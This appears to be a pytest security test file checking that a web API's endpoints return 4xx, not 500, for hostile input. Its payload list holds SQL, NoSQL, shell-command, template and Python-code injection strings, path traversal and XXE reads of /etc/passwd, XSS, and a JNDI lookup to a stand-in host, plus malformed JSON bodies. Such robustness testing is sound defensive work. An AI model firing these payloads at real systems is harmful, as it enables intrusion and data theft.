"""SEC-1.5 (plan A): what attackers send is data or a clear 4xx in every path, query, header and body; never a 500."""

import json

import pytest
from werkzeug.wrappers import Response

from functions.catalogue import CATALOGUE

PAYLOADS = (
    "1' OR '1'='1",
    "admin' --",
    "1; DROP TABLE users; --",
    "' UNION SELECT * FROM pipelines --",
    '{"$gt": ""}',
    "$where: 1==1",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "\x00",
    "\r\nSet-Cookie: a=b",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "; cat /etc/passwd",
    "$(id)",
    "<script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "__import__('os').system('id')",
    "__proto__",
    "\u202e\ufeff\ud7ff",
    "%ff%fe",
    "A" * 4000,
    "9" * 400,
    "-1",
    "NaN",
    "1e999",
    ".",
    "..",
    "__x__",
    "*",
    "%",
)
ENTRIES = [entry for entry in CATALOGUE.endpoints() if entry.http]


def check(response: Response, payload: str) -> None:
    assert response.status_code < 500, response.get_data(as_text=True)
    assert "Set-Cookie" not in response.headers or "a=b" not in response.headers["Set-Cookie"]
    for name, value in response.headers.items():
        assert "\n" not in value, name
        assert "\r" not in value, name
    if response.status_code >= 400 and response.content_type:
        assert response.content_type == "application/problem+json"
        text = response.get_data(as_text=True)
        for leak in ("Traceback", "sqlite", "root:x:", 'File "/'):
            assert leak not in text


@pytest.mark.parametrize("payload", PAYLOADS[:7])
def test_sec_1_5_user_text_is_stored_and_shown_as_it_is(call, payload):
    text = f"A film about {payload} and nothing else"
    made = call("POST", "/pipeline/run", json={"content": text, "title": payload})
    assert made.status_code == 202
    assert call("GET", f"/pipeline/{made.json['id']}").json["title"] == payload


BODIES = {
    "nothing": b"",
    "no JSON": b"{",
    "two values": b"{}{}",
    "a list": b"[]",
    "a number": b"1",
    "null": b"null",
    "deep": b"[" * 100_000,
    "deep object": b'{"content":' * 5_000 + b"1" + b"}" * 5_000,
    "deep in a field": b'{"content": ' + b"[" * 180 + b"]" * 180 + b"}",
    "NaN": b'{"content": "long enough text", "duration_sec": NaN}',
    "Infinity": b'{"content": "long enough text", "budget": Infinity}',
    "-Infinity in a place of any type": b'{"content": "long enough text", "media": [{"x": -Infinity}]}',
    "huge integer": b'{"content": "long enough text", "duration_sec": ' + b"9" * 5000 + b"}",
    "huge exponent": b'{"content": "long enough text", "budget": 1e400}',
    "not UTF-8": b'{"content": "\xff\xfe\xfd long enough"}',
    "UTF-16": '{"content": "long enough text"}'.encode("utf-16"),
    "a byte order mark": b'\xef\xbb\xbf{"content": "long enough text", "x": 1}',
    "a lone surrogate": b'{"content": "long enough \\ud800 text"}',
    "NUL": b'{"content": "long enough \\u0000 text", "preset": "\\u0000"}',
    "twice": b'{"content": "long enough text", "content": 5}',
    "ten thousand fields": b"{" + b",".join(b'"f%d":1' % n for n in range(10_000)) + b"}",
    "an unknown field": b'{"content": "long enough text", "__proto__": {"admin": true}}',
    "a wrong type": b'{"content": {"$gt": ""}}',
}


@pytest.mark.parametrize("name", BODIES)
@pytest.mark.parametrize(
    "entry", [e for e in ENTRIES if e.http.method in ("POST", "PUT", "PATCH")], ids=lambda e: e.name
)
def test_sec_1_5_no_body_breaks_an_endpoint(client, entry, name):
    role = "admin" if entry.roles == "public" else entry.roles[0]
    path = entry.http.path.replace("{id}", "0123abcd").replace("{name}", "x")
    headers = {"Authorization": f"Bearer {role}:eve", "Content-Type": "application/json"}
    response = client.open(path, method=entry.http.method, headers=headers, data=BODIES[name])
    check(response, name)
    if entry.name == "run_pipeline" and name != "NUL":
        assert 400 <= response.status_code < 500


@pytest.mark.parametrize("kind", ["text/plain", "application/xml", "multipart/form-data; boundary=x", "a/b/c;;=;"])
def test_sec_1_5_a_body_of_another_type_is_415(call, kind):
    body = json.dumps({"content": "long enough text"})
    assert call("POST", "/pipeline/run", data=body, content_type=kind).status_code == 415


@pytest.mark.parametrize(
    "headers",
    [
        {"Content-Type": "application/json; charset=utf-16"},
        {"Content-Type": "application/json", "Content-Encoding": "gzip"},
    ],
)
def test_sec_1_5_a_body_in_another_coding_is_415(call, headers):
    body = json.dumps({"content": "long enough text"})
    assert call("POST", "/pipeline/run", data=body, headers=headers).status_code == 415


def test_sec_1_5_a_query_longer_than_anybody_needs_is_414(call):
    response = call("GET", "/presets", query_string="a" * 9000)
    assert (response.status_code, response.json["code"]) == (414, "uri_too_long")
